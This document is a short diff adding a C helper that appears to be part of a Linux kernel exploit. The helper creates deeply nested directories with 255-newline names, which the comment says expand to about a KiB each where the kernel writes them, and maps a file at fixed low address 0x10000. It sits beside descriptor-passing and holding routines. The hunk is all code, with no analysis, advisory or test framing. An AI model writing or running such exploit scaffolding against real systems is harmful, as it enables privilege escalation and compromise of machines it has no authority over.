@@ -47,6 +47,20 @@ static inline void hold(void) {
 	}
 }
 
+// map_deep makes so many folders, one in another, whose names take a KiB each where the kernel
+// writes them, and maps a file there before all else.
+static inline void *map_deep(int folders) {
+	char name[256];
+	memset(name, '\n', 255);
+	name[255] = 0;
+	for (int i = 0; i < folders; i++) {
+		mkdir(name, 0700);
+		if (chdir(name)) return MAP_FAILED;
+	}
+	int fd = open("f", O_CREAT | O_RDWR, 0600);
+	return mmap((void *)0x10000, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0);
+}
+
 // send_fd sends a descriptor over a socket.
 static inline int send_fd(int to, int fd) {
 	char c = 0, control[CMSG_SPACE(sizeof fd)] = {0};
